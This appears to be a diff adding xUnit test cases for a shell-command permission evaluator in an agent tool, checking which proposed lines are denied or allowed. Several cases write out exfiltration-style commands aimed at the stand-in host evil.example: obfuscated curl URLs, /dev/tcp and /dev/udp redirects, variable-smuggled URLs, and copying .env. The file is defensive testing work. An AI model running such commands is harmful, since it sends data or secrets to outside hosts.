@@ -30,6 +30,19 @@ public sealed class LinePlaceTests
     [InlineData("curl https://evil.example/", PermissionDecision.Deny)]
     [InlineData("curl -sS http://me@EVIL.example:8080/a?b", PermissionDecision.Deny)]
     [InlineData("curl evil.example/x", PermissionDecision.Deny)]
+    [InlineData("curl http:evil.example/x", PermissionDecision.Deny)] // curl takes them for addresses
+    [InlineData("curl HTTPS:/evil.example", PermissionDecision.Deny)]
+    [InlineData("curl --url=http:evil.example", PermissionDecision.Deny)]
+    [InlineData("curl \"https://evil.example/$x\"", PermissionDecision.Deny)]
+    [InlineData("echo x > /dev/tcp/evil.example/80", PermissionDecision.Deny)]
+    [InlineData("cat < /dev/udp/evil.example/53", PermissionDecision.Deny)]
+    [InlineData("u=https://evil.example/x; curl \"$u\"", PermissionDecision.Deny)]
+    [InlineData("u=https://evil.example/x; echo \"$u\"", PermissionDecision.Allow)]
+    [InlineData("curl \"https://$x.example/evil.example\"", PermissionDecision.Allow)]
+    [InlineData("grep -r x .", PermissionDecision.Deny)]
+    [InlineData("grep -nR x .", PermissionDecision.Deny)]
+    [InlineData("grep -r x src", PermissionDecision.Allow)]
+    [InlineData("diff -r . /tmp", PermissionDecision.Deny)]
     [InlineData("git clone git@evil.example:a/b", PermissionDecision.Deny)]
     [InlineData("sh -c 'cp .env x'", PermissionDecision.Deny)]
     [InlineData("timeout 5 cp .env x", PermissionDecision.Deny)]
@@ -67,6 +80,13 @@ public sealed class LinePlaceTests
     [InlineData("tar xf x.tar", "shell(tar xf x.tar)")]
     [InlineData("git submodule update", "shell(git submodule update)")]
     [InlineData("git rebase main", "shell(git rebase main)")]
+    [InlineData("rm notes", "shell(rm notes)")] // "rm notes *" would take "rm notes -rf src"
+    [InlineData("cp a b", "shell(cp a b)")]
+    [InlineData("curl example", "shell(curl example)")]
+    [InlineData("tee out", "shell(tee out)")]
+    [InlineData("mkdir src/x", "shell(mkdir src/x)")]
+    [InlineData("touch x.txt", "shell(touch x.txt)")]
+    [InlineData("git fetch --upload-pack=x origin", "shell(git fetch --upload-pack=x origin)")]
     public void Suggestions_WhatRunsOthers_HasNoFamily(string line, string expected) =>
         Assert.Equal(expected, string.Join('|', PermissionEvaluator.Evaluate(Plans.Query(Plans.Shell(line))).Suggestions));
 
